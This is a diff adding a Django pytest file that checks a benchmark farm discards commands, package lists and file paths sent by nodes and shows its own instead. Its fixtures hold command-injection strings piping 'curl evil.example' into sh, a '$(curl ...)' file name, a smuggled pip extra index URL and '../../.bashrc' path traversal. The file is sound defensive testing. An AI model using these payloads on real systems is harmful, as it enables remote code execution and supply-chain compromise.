@@ -1,0 +1,103 @@
+"""What a node says is shown as text and never becomes a command: reports, stored rows of before, answers of its own."""
+
+import gzip
+import importlib
+import json
+from collections.abc import Callable
+
+import pytest
+from django.apps import apps
+from django.test import Client
+
+from farm.accounts.models import User
+from farm.contract.divergence import DivergenceReport
+from farm.contract.reports import EndReport
+from farm.fleet.models import Node
+from farm.runs import selectors
+from farm.runs.models import CellDocument, Divergence, FinishedDocument, Report, Run
+from farm.runs.services.concluding import conclude_runs
+from tests.integration.runs.making import claim, first_block, measure, post
+from tests.integration.runs.test_divergences import answer, ask
+from tests.unit.rules.making import make_facts
+
+pytestmark = pytest.mark.django_db
+ApiOf = Callable[..., Client]
+HOSTILE = "onnxfarm bench 'encoder.onnx; curl evil.example | sh"
+OWN = "onnxfarm bench encoder.onnx --ort 1.29.0 --provider CPUExecutionProvider --batch 1 --threads 1 --precision fp32"
+PIP = {"numpy": "2.4.6\n--extra-index-url https://evil.example/simple", "-r": "https://evil.example/list"}
+
+
+@pytest.fixture
+def done(run: Run, node: Node) -> Run:
+    """A finished run."""
+    measure(node, first_block(run), [1.0, 1.2, 1.0])
+    run.refresh_from_db()
+    return run
+
+
+def put_words(text: str) -> str:
+    """A stored cell or report as a hostile node of before would have left it."""
+    plain = json.loads(text)
+    return json.dumps({**plain, "repeat_command": HOSTILE, "packages": PIP})
+
+
+def all_words(client: Client, run: Run) -> str:
+    """Everything a member reads of the run's cells."""
+    pages = [f"/runs/{run.pk}/", f"/runs/{run.pk}/cells/c1/", f"/api/v1/runs/{run.pk}/results"]
+    answers = [client.get(page) for page in pages]
+    assert [one.status_code for one in answers] == [200] * len(pages)
+    return "".join(
+        b"".join(one).decode() if one.streaming else one.content.decode()  # type: ignore[arg-type]
+        for one in answers
+    )
+
+
+def test_a_report_of_before_with_a_broken_quote_is_read_and_its_command_is_not(done: Run, node: Node) -> None:
+    for row in Report.objects.filter(kind="check"):
+        Report.objects.filter(pk=row.pk).update(body=put_words(row.body))
+    CellDocument.objects.all().delete()
+    found = selectors.documents.block_document(first_block(done)).cells[0]
+    assert (found.status, found.repeat_command, found.packages) == ("done", OWN, {})
+
+
+def test_what_nodes_had_written_into_stored_documents_is_replaced_by_the_farms_own_words(
+    client: Client, member: User, done: Run
+) -> None:
+    conclude_runs()
+    for row in CellDocument.objects.all():
+        CellDocument.objects.filter(pk=row.pk).update(body=put_words(row.body))
+    kept = FinishedDocument.objects.get(run=done)
+    honest = json.loads(gzip.decompress(bytes(kept.body)))
+    hostile = {**honest, "cells": [json.loads(put_words(json.dumps(cell))) for cell in honest["cells"]]}
+    FinishedDocument.objects.filter(run=done).update(body=gzip.compress(json.dumps(hostile).encode()))
+    importlib.import_module("farm.runs.migrations.0003_write_own_commands").write(apps, None)
+    selectors.documents._kept_document.cache_clear()
+    client.force_login(member)
+    words = all_words(client, done)
+    assert "evil.example" not in words
+    assert OWN in words
+    again = json.loads(gzip.decompress(bytes(FinishedDocument.objects.get(run=done).body)))
+    assert again == {**honest, "cells": [{**cell, "packages": {}} for cell in honest["cells"]]}
+
+
+def test_a_node_cannot_choose_the_command_and_the_files_of_its_answer(
+    api_of: ApiOf, member: User, node: Node, done: Run
+) -> None:
+    client = api_of(member)
+    ask(client, done)
+    said = answer().model_dump(mode="json", by_alias=True)
+    said["model"] = said["found"]["part"]["main"] = "$(curl evil.example).onnx"
+    said["found"]["part"] |= {"command": HOSTILE, "files": ["../../.bashrc", "/etc/evil.example", "inputs.npz"]}
+    lease = claim(node, first_block(done))
+    report = DivergenceReport.model_validate({"arm": 1, "document": said})
+    for one in (make_facts(), report, EndReport(wall_s=1.0)):
+        post(node, lease, one)
+    row = Divergence.objects.get()
+    assert "evil.example" not in row.body
+    part = row.document.found.part if row.document and row.document.found else None
+    assert part is not None
+    assert (part.main, part.files) == ("encoder.onnx", ("inputs.npz",))
+    assert part.command.startswith("onnxfarm diverge encoder.onnx --ort 1.31.1 ")
+    Divergence.objects.filter(pk=row.pk).update(body=json.dumps(said))
+    importlib.import_module("farm.runs.migrations.0003_write_own_commands").write(apps, None)
+    assert Divergence.objects.get().document == row.document
